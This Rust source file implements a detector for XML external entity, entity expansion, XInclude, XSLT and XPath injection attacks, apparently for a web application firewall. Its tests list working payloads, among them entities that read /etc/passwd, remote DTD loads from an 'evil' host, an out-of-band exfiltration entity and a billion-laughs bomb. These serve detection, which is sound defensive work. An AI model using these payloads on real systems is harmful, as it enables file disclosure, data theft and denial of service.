//! XML external entities and entity expansion, by a small scanner of the DTD.
//!
//! Finds `<!DOCTYPE` and `<!ENTITY` declarations (case-insensitive, any blanks), and reads
//! each entity declaration: parameter or general, and its definition — an external
//! identifier (`SYSTEM "uri"`, `PUBLIC "id" "uri"`) or a literal value. External entities,
//! parameter entities and their references (`%x;`), external DTD subsets, and literal values
//! that reference other entities (expansion bombs) are reported. Also XInclude and XSLT
//! document()/php:function access, which reach files the same way.

use crate::other_util::{best, each_byte_of, gate, mk, step, views, Anchors};
use crate::{Category, Detector, FieldKind, Gate, Hit, Input, Level};
use std::sync::LazyLock;

#[path = "xxe_html_names.rs"]
mod html_names;

const NAME: &str = "xxe";

pub struct XxeDetector;

pub fn detector() -> Box<dyn Detector> {
    LazyLock::force(&ANCHORS);
    Box::new(XxeDetector)
}

impl Detector for XxeDetector {
    fn name(&self) -> &'static str {
        NAME
    }

    fn gate(&self) -> Option<Gate> {
        Some(GATE)
    }

    fn check(&self, input: &Input<'_>, level: Level) -> Option<Hit> {
        let mut h = None;
        for v in views(input.decoded).iter().filter(|v| !v.is_empty()) {
            h = best(h, analyse(v));
            h = best(h, xpath(v));
            if !matches!(input.field, FieldKind::XmlDocument | FieldKind::Body) {
                h = best(h, xml_probe(v));
            }
        }
        gate(h, level)
    }
}

fn skip_ws(b: &[u8], mut i: usize) -> usize {
    let lim = (i + 256).min(b.len());
    while i < lim && b[i].is_ascii_whitespace() {
        i += 1;
    }
    i
}

fn word(b: &[u8], i: usize) -> usize {
    let mut j = i;
    let lim = (i + 256).min(b.len());
    while j < lim && !b[j].is_ascii_whitespace() && !matches!(b[j], b'>' | b'"' | b'\'' | b'[') {
        j += 1;
    }
    // Cut at the limit: never inside a multi-byte character (callers slice the text there).
    while j > i && j < b.len() && (b[j] & 0xC0) == 0x80 {
        j -= 1;
    }
    j
}

/// Literals every finding of [`analyse`] needs (markup declarations `<!`, XInclude, XSLT
/// extension functions, `document(`, `<?import`, data islands).
const ANCHOR_LITERALS: &[&str] = &["<!", "xi:include", "xmlns:xi=", "php:function(", "xmlns:php=", "document(", "<?import ", "datasrc=", "pingback.ping"];
static ANCHORS: LazyLock<Anchors> = LazyLock::new(|| Anchors::new(ANCHOR_LITERALS));

/// The pre-filter declared to the engine: `%` (encoded forms, parameter entity references),
/// the anchors of [`analyse`], `<?xml`, the XPath axis separator `::` and a function applied
/// to an absolute path `(/` (for [`xpath`]; literals, found in the engine's byte pass), and
/// [`gate_test`] for the entity references of [`xml_probe`].
const GATE: Gate = Gate { bytes: "%", anchors: GATE_ANCHORS, words: &[], test: Some(gate_test), test_bytes: "&", test_only: "" };

/// [`ANCHOR_LITERALS`], the XML declaration of [`xml_probe`], and `::` and `(/` (for
/// [`xpath`]): literals the engine finds in its byte pass, so [`gate_test`] looks only for
/// entity references (`tests::gate_test_finds_unknown_entities`).
const GATE_ANCHORS: &[&str] =
    &["<!", "xi:include", "xmlns:xi=", "php:function(", "xmlns:php=", "document(", "<?import ", "datasrc=", "pingback.ping", "<?xml", "::", "(/"];

/// See [`GATE`]: `&name;` with a name HTML does not define (`&amp;` and `&eacute;` in text open
/// nothing). The axis separator and the call on a path are the gate's literals `::` and `(/`.
/// The references most texts carry ([`common_html_name`]) are passed over without the binary
/// search of [`html_names::is_html_name`].
fn gate_test(s: &str) -> bool {
    let b = s.as_bytes();
    each_byte_of(b, [b'&'], |p| entity_name(b, p + 1).is_some_and(|e| !common_html_name(&b[p + 1..e]) && !html_names::is_html_name(&s[p + 1..e])))
}

/// The HTML references most texts carry (typographic quotes and dashes, `&amp;`, `&nbsp;`...):
/// each is an HTML name (`tests::common_html_names_are_html_names`), recognised here with a
/// few comparisons instead of a binary search over the 2,000 names.
#[inline]
fn common_html_name(n: &[u8]) -> bool {
    matches!(n, b"amp" | b"lt" | b"gt" | b"quot" | b"apos" | b"nbsp" | b"rsquo" | b"lsquo" | b"ldquo" | b"rdquo" | b"hellip" | b"mdash" | b"ndash")
}

/// The XML name of a reference that starts at `b[i]` (after its `&` or `%`) and ends with
/// `;`: a letter or `_`, then letters, digits, `_ - .` (at most 64 bytes); its end.
fn entity_name(b: &[u8], i: usize) -> Option<usize> {
    if !b.get(i).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
        return None;
    }
    let n = b[i..].iter().take(65).take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')).count();
    (n <= 64 && b.get(i + n) == Some(&b';')).then_some(i + n)
}

/// XML injection probes in a value that is not itself an XML body (strict level, 45): an XML
/// declaration starting the value (a document sent where a field goes, to see whether it is
/// parsed as XML); a CDATA section around markup (`<![CDATA[<x/>]]>`: markup smuggled past
/// the escaping of a document built by concatenation); a reference to an entity that only a
/// DTD can declare (`&xxe;`, `<text>&file;</text>`: a general entity HTML does not define,
/// or a parameter entity `%dtd;`, which exists only inside a DTD; a name of at least three
/// bytes not glued to a word), which another field or an earlier request declared. A plain document
/// (`<a>b</a>`), an HTML reference (`&hellip;`, `caf&eacute;`) or `AT&T;` is not reported.
fn xml_probe(s: &str) -> Option<Hit> {
    let b = s.as_bytes();
    let t = s.trim_start();
    let tb = t.as_bytes();
    if tb.len() > 6 && tb[..5].eq_ignore_ascii_case(b"<?xml") && tb[5].is_ascii_whitespace() {
        return Some(mk(NAME, Category::Xxe, 45, t, "XML document in a parameter value (XML injection probe)"));
    }
    if let Some(p) = memchr::memchr_iter(b'<', b).find(|&p| b[p..].starts_with(b"<![CDATA[")) {
        let body = &b[p + 9..];
        let end = memchr::memmem::find(body, b"]]>").unwrap_or(body.len());
        if memchr::memchr(b'<', &body[..end]).is_some() {
            return Some(mk(NAME, Category::Xxe, 45, &s[p..], "CDATA section around markup (XML injection probe)"));
        }
    }
    for p in memchr::memchr2_iter(b'&', b'%', b) {
        step(1);
        if p > 0 && b[p - 1].is_ascii_alphanumeric() {
            continue;
        }
        let Some(e) = entity_name(b, p + 1) else { continue };
        let name = &s[p + 1..e];
        if name.len() >= 3 && (b[p] == b'%' || !html_names::is_html_name(name)) {
            return Some(mk(NAME, Category::Xxe, 45, &s[p..], "reference to an entity only a DTD declares (XML injection probe)"));
        }
    }
    None
}

/// XPath's thirteen axes (XPath 1.0 §2.2); an axis step is `axis::node-test`.
const AXES: &[&[u8]] = &[
    b"ancestor",
    b"ancestor-or-self",
    b"attribute",
    b"child",
    b"descendant",
    b"descendant-or-self",
    b"following",
    b"following-sibling",
    b"namespace",
    b"parent",
    b"preceding",
    b"preceding-sibling",
    b"self",
];

/// XPath injection: an explicit axis step (`child::node()`, `parent::*[1]`,
/// `ancestor::user[...]`), which only an XPath expression contains, or a node-set function
/// applied to an absolute path (`count(/*)`, `name(/*[1])`, `string-length(name(/*))`),
/// the probes that walk an XML document a query was built on. Axis names are lowercase in
/// XPath (`Self::new` in Rust or `std::vector` in C++ are not steps), the step must start a
/// token, and its node test must follow the `::` directly.
fn xpath(s: &str) -> Option<Hit> {
    let b = s.as_bytes();
    let mut out: Option<Hit> = None;
    for p in memchr::memmem::find_iter(b, b"::") {
        step(1);
        let mut st = p;
        while st > 0 && p - st < 18 && (b[st - 1].is_ascii_lowercase() || b[st - 1] == b'-') {
            st -= 1;
        }
        if st == p || !AXES.contains(&&b[st..p]) || (st > 0 && (b[st - 1].is_ascii_alphanumeric() || matches!(b[st - 1], b'_' | b':' | b'.'))) {
            continue;
        }
        let t = &b[p + 2..];
        let name = t.iter().take_while(|c| c.is_ascii_alphanumeric() || matches!(**c, b'_' | b'-')).count();
        let kind_test = [&b"node()"[..], b"text()", b"comment()", b"processing-instruction("].iter().any(|k| t.starts_with(k));
        let c = if kind_test || t.first() == Some(&b'*') {
            75
        } else if name > 0 && matches!(t.get(name), Some(b'[' | b'/' | b')')) {
            65
        } else {
            continue;
        };
        out = best(out, Some(mk(NAME, Category::Xxe, c, &s[st..], "XPath axis step (XPath injection)")));
    }
    for p in memchr::memmem::find_iter(b, b"(/") {
        step(1);
        let mut st = p;
        while st > 0 && p - st < 14 && (b[st - 1].is_ascii_lowercase() || b[st - 1] == b'-') {
            st -= 1;
        }
        let f = &b[st..p];
        let path = b.get(p + 2).is_some_and(|c| matches!(c, b'*' | b'/') || c.is_ascii_alphabetic());
        if path && matches!(f, b"count" | b"name" | b"local-name" | b"namespace-uri" | b"string-length") && (st == 0 || !b[st - 1].is_ascii_alphanumeric()) {
            out = best(out, Some(mk(NAME, Category::Xxe, 65, &s[st..], "XPath node-set function on an absolute path (XPath injection)")));
        }
    }
    out
}

fn analyse(s: &str) -> Option<Hit> {
    if !ANCHORS.any(s) {
        return None;
    }
    let l = s.to_ascii_lowercase();
    let b = l.as_bytes();
    step(b.len());
    let mut out: Option<Hit> = None;
    let mut put = |c: u8, frag: &str, why: &'static str| out = best(out.take(), Some(mk(NAME, Category::Xxe, c, frag, why)));
    let mut entities = 0u32;
    let mut refs_in_values = 0u32;
    for (p, _) in l.match_indices("<!") {
        step(1);
        let rest = &l[p + 2..];
        if rest.starts_with("doctype") {
            // <!DOCTYPE name SYSTEM "uri"> / PUBLIC "id" "uri"
            let i = skip_ws(b, p + 9);
            let i = skip_ws(b, word(b, i));
            let kw = &l[i..word(b, i).min(l.len())];
            if kw == "system" || kw == "public" {
                put(85, &s[p..], "DOCTYPE with an external DTD");
            } else if b.get(i) == Some(&b'[') {
                // `<!DOCTYPE x [`: an internal subset, where entities and attribute defaults
                // are declared; no form or API value carries one.
                put(65, &s[p..], "DOCTYPE with an internal subset");
            }
        } else if rest.starts_with("attlist") || rest.starts_with("element") {
            // Markup declarations outside an XML file: attribute defaults (`xmlns`, `src`) and
            // content models injected into the document's DTD.
            let i = skip_ws(b, p + 9);
            if i > p + 9 && word(b, i) > i {
                put(60, &s[p..], "DTD markup declaration in a value");
            }
        } else if rest.starts_with("entity") {
            entities += 1;
            let mut i = skip_ws(b, p + 8);
            let param = b.get(i) == Some(&b'%');
            if param {
                i = skip_ws(b, i + 1);
            }
            let i = skip_ws(b, word(b, i));
            let kw_end = word(b, i);
            let kw = &l[i..kw_end];
            if kw == "system" || kw == "public" {
                put(95, &s[p..], "external entity declaration");
            } else if param {
                put(90, &s[p..], "parameter entity declaration");
            } else if matches!(b.get(i), Some(b'"' | b'\'')) {
                let q = b[i];
                // At most 4 KiB of the value, cut at a character boundary.
                let mut win = (i + 1 + 4096).min(l.len());
                while !l.is_char_boundary(win) {
                    win -= 1;
                }
                let end = l.get(i + 1..win).and_then(|w| w.find(q as char)).map_or(win, |e| i + 1 + e);
                let val = &l[i + 1..end];
                if val.contains('&') && val.contains(';') {
                    refs_in_values += 1;
                }
                if val.contains("<!entity") || val.contains("&#37;") {
                    put(90, &s[p..], "nested entity declaration");
                }
            }
        }
    }
    if entities > 0 {
        put(60, s, "DTD entity declaration in a value");
    }
    if refs_in_values >= 1 && entities >= 2 {
        put(90, s, "entity expansion (entities referencing entities)");
    }
    // Parameter entity references `%name;` inside a DTD.
    if l.contains("<!doctype") || l.contains("<!entity") {
        for (p, _) in l.match_indices('%') {
            step(1);
            let e = word(b, p + 1);
            if e > p + 1 && b.get(e) != Some(&b'"') && b[..e.min(b.len())].ends_with(b";") {
                put(85, &s[p..], "parameter entity reference");
                break;
            }
        }
    }
    // Markup split across CDATA sections (`<![CDATA[<]]>script`) reassembles in the parser.
    if l.contains("<![cdata[") {
        let joined = l.replace("<![cdata[", "").replace("]]>", "");
        step(l.len() * 2);
        if joined.contains("<script") || joined.contains("javascript:") || joined.contains("onerror=") {
            out = best(out.take(), Some(mk(NAME, Category::Xss, 80, s, "markup smuggled through CDATA sections")));
        }
    }
    let mut put = |c: u8, frag: &str, why: &'static str| out = best(out.take(), Some(mk(NAME, Category::Xxe, c, frag, why)));
    // XML-RPC `pingback.ping` with a source URL: the server fetches the URL (SSRF, reflection
    // amplification).
    if let Some(p) = l.find("<methodname>pingback.ping</methodname>") {
        if l[p..].contains("://") {
            put(65, &s[p..], "XML-RPC pingback request");
        }
    }
    for (pat, c, why) in [
        ("xi:include", 85u8, "XInclude"),
        ("xmlns:xi=\"http://www.w3.org/2001/xinclude\"", 80, "XInclude namespace"),
        ("php:function(", 95, "XSLT php:function"),
        ("xmlns:php=\"http://php.net/xsl\"", 70, "XSLT with PHP functions"),
        ("document('", 70, "XSLT document()"),
        ("document(\"", 70, "XSLT document()"),
        ("<?import ", 70, "HTML component import"),
        ("datasrc=", 60, "data island binding"),
    ] {
        if let Some(p) = l.find(pat) {
            put(c, &s[p..], why);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::other_util::take_steps;
    use crate::FieldKind;
    use palisade_testkit::rng::XorShift64;

    fn q(v: &str) -> u8 {
        detector().check(&Input { raw: v, decoded: v, field: FieldKind::XmlDocument }, Level::Strict).map_or(0, |h| h.confidence)
    }

    /// An entity value longer than the 4 KiB window whose window ends inside a multi-byte
    /// character is read up to the character before it (the fuzz target `detect_misc` found the
    /// window cut inside a `\u{FFFD}`, a panic).
    #[test]
    fn an_entity_value_window_ending_inside_a_character_is_cut_before_it() {
        for pad in 0..4 {
            let value = format!("<!DOCTYPE x [<!ENTITY e \"{}{}&a;\">]>", "a".repeat(4094 + pad), "\u{FFFD}".repeat(4));
            // No panic, and the declaration itself is still reported.
            assert!(q(&value) >= 60, "pad {pad}: {}", q(&value));
        }
    }

    #[test]
    fn attacks() {
        for v in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo [<!ENTITY % dtd SYSTEM \"http://evil/x.dtd\"> %dtd;]>",
            "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\"><foo/>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<!doctype x [ <!entity   xxe   public \"-//x\" \"http://e/\"> ]>",
            "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>",
            "<!ENTITY % int \"<!ENTITY &#37; trick SYSTEM 'http://127.0.0.1/?%file;'>\"> %int;",
            // Written for this detector.
            "<!DOCTYPE r [<!ATTLIST img src CDATA \"javascript:x\">]><r/>",
            "<!doctype page[",
            "  <!ATTLIST a xmlns CDATA #FIXED \"http://www.w3.org/1999/xhtml\">",
            "<!ELEMENT x ANY>",
            "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://203.0.113.5/</string></value></param></params></methodCall>",
            // XPath injection.
            "count(/child::node())",
            "' or count(parent::*[position()=1])=1 or 'a'='b",
            "x' or name(/*[1])='users' or 'x'='y",
            "1 or string-length(name(/*))>0",
            "')] | //user/descendant::text() | a[('",
            "admin' and ancestor::account[1]/password='x",
        ] {
            assert!(q(v) >= 60, "{v}: {}", q(v));
        }
    }

    #[test]
    fn benign() {
        for v in [
            "<?xml version=\"1.0\"?><a>b</a>",
            "<!DOCTYPE html><html></html>",
            "<!-- comment --><a/>",
            "100% of <b>x</b>",
            "<!DOCTYPE note PUBLICATION>",
            "the <!ELEMENT> and <!ATTLIST> declarations",
            "<methodCall><methodName>demo.sayHello</methodName><params></params></methodCall>",
            "<methodName>pingback.ping</methodName> takes two URLs",
            "Self::new() returns the builder",
            "std::vector<int> v; self::$instance",
            "fe80::1 and ::ffff:127.0.0.1",
            "the parent::child relation",
            "count(/ 2) items",
            "ns::child::x",
        ] {
            assert!(q(v) < 60, "{v}: {}", q(v));
        }
    }

    #[test]
    fn xml_injection_probes_are_strict_only() {
        let at = |v: &str, field: FieldKind, level: Level| detector().check(&Input { raw: v, decoded: v, field }, level).map_or(0, |h| h.confidence);
        // Written for this rule, not taken from a corpus.
        for v in [
            "<?xml version=\"1.0\"?><order><id>1</id></order>",
            "  <?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
            "<![CDATA[<admin>true</admin>]]>",
            "</name><![CDATA[<role>admin</role>]]><name>",
            "&xxe;",
            "<comment>&exfil;</comment>",
            "%remote;",
            "a %payload; b",
            "&my.entity-1;",
        ] {
            assert_eq!(at(v, FieldKind::QueryValue, Level::Strict), 45, "{v}");
            assert_eq!(at(v, FieldKind::JsonValue, Level::Balanced), 0, "{v}");
        }
        // The same texts are a document's own syntax in an XML body.
        assert_eq!(at("<?xml version=\"1.0\"?><a>&ext;</a>", FieldKind::XmlDocument, Level::Strict), 0);
        assert_eq!(at("<?xml version=\"1.0\"?><a/>", FieldKind::Body, Level::Strict), 0);
        for v in [
            "<a>b</a>",
            "<?xml-stylesheet?>",
            "<?xmlfoo",
            "caf&eacute; &hellip; &nbsp; &amp; &lt;b&gt; &rsquo; &NotNestedGreaterGreater;",
            "AT&T; R&D; Q&A;",
            "Procter&Gamble;",
            "&foo",
            "&#x3c; &#60;",
            "printf(\"%s; %d;\")",
            "50%off; today",
            "<![CDATA[plain text]]>",
            "//<![CDATA[ var a = 1; //]]>",
            "&ab;",
        ] {
            assert_eq!(at(v, FieldKind::QueryValue, Level::Strict), 0, "{v}");
        }
    }

    #[test]
    fn html_names_are_sorted_and_complete() {
        assert!(html_names::NAMES.windows(2).all(|w| w[0] < w[1]));
        for n in ["amp", "lt", "gt", "quot", "apos", "nbsp", "eacute", "hellip", "NotNestedGreaterGreater", "zwnj"] {
            assert!(html_names::NAMES.binary_search(&n).is_ok(), "{n}");
        }
    }

    /// [`common_html_name`] holds HTML names only.
    #[test]
    fn common_html_names_are_html_names() {
        for n in ["amp", "lt", "gt", "quot", "apos", "nbsp", "rsquo", "lsquo", "ldquo", "rdquo", "hellip", "mdash", "ndash"] {
            assert!(common_html_name(n.as_bytes()) && html_names::is_html_name(n), "{n}");
        }
        for n in ["Amp", "AMP", "am", "ampx", "rsqu", "x", ""] {
            assert!(!common_html_name(n.as_bytes()), "{n}");
        }
    }

    /// What [`gate_test`] looks for, by brute force from its documentation: an entity
    /// reference `&name;` whose name HTML does not define.
    fn unknown_entity_spec(s: &str) -> bool {
        s.match_indices('&').any(|(p, _)| entity_name(s.as_bytes(), p + 1).is_some_and(|e| !html_names::is_html_name(&s[p + 1..e])))
    }

    /// [`gate_test`] answers what the spec answers: on a bounded pseudo-random sample of
    /// texts made of axes, calls on paths, entity references (HTML and not), times and
    /// blanks, and on every real value of the sets and bench bodies.
    #[test]
    fn gate_test_finds_unknown_entities() {
        let parts = [
            "::", ":", "child", "(", "(/", "count", "&", "amp", "eacute", "xxe", "file", ";", "&amp;", "&xxe;", "16:55", "T", " ", "a", "_", "-", ".", "9",
            "\u{e9}", "%", "/", "rsquo", "&rsquo;", "&ldquo;", "quot", "nbsp", "Amp", "ndash", "hellip", "lt", "gt",
        ];
        let mut rng = XorShift64::new(0x2545_f491_4f6c_dd1d);
        let (mut yes, mut no) = (0, 0);
        let mut check = |v: &str| {
            let want = unknown_entity_spec(v);
            assert_eq!(gate_test(v), want, "{v:?}");
            if want {
                yes += 1;
            } else {
                no += 1;
            }
        };
        for _ in 0..100_000 {
            check(&rng.joined(&parts, 8));
        }
        for v in crate::other_util::test_values() {
            check(&v);
        }
        assert!(yes > 10_000 && no > 10_000, "{yes} {no}");
    }

    #[test]
    fn gate_admits_every_probe() {
        for v in ["&xxe;", "<c>&exfil;</c>", "%remote;", "<![CDATA[<a/>]]>", "<?xml version=\"1.0\"?>"] {
            assert!(GATE.bytes.bytes().any(|c| v.as_bytes().contains(&c)) || GATE_ANCHORS.iter().any(|l| v.contains(l)) || gate_test(v), "{v}");
        }
        assert!(!gate_test("Tom & Jerry; AT&T"));
        assert!(!gate_test("caf&eacute; &amp; &hellip;"));
    }

    #[test]
    fn linear() {
        for unit in [
            "<!ENTITY ",
            "<!DOCTYPE ",
            "%x;",
            "<!",
            "<!DOCTYPE [",
            "<!ATTLIST a ",
            "<methodname>pingback.ping</methodname>",
            "::",
            "child::",
            "count(/",
            "a-a-a-a-a-a::",
            "&xyz",
            "&abc;",
            "%abc;",
            "<![CDATA[",
        ] {
            let v = unit.repeat(1_000_000 / unit.len());
            take_steps();
            let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::XmlDocument }, Level::Strict);
            assert!(take_steps() < 80 * v.len() as u64, "{unit}");
        }
    }

    #[test]
    fn long_names_ending_inside_a_multibyte_character_do_not_panic() {
        // Found by the detect_misc fuzz target: a name cut at its 256-byte limit inside `€`.
        for prefix in ["<!DOCTYPE x [ %", "<!DOCTYPE ", "<!ENTITY ", "<!ENTITY % "] {
            for pad in 0..4 {
                let v = format!("{prefix}{}{}€€;>", "a".repeat(250), "b".repeat(pad));
                let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::XmlDocument }, Level::Strict);
            }
        }
    }
}
